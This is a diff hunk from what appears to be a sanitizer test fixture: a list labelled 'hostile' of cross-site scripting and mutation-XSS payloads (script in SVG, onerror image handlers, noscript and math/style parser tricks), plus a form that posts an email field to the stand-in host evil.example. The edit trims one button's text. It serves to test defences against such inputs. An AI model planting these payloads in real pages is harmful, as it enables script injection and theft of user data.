@@ -23,7 +23,7 @@ export const hostile = Object.entries({
   'a drawing': '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
   'a drawing with a style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
   'a formula': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a()&gt;">',
-  'a form': '<form action="https://evil.example"><input name="email"><button formaction="x">a</button></form>',
+  'a form': '<form action="https://evil.example"><input name="email"><button formaction="x"></button></form>',
   'raw text': '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
   'a noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   'a text area': '<textarea><script>alert(1)</script></textarea><title><script>a()</script></title>',
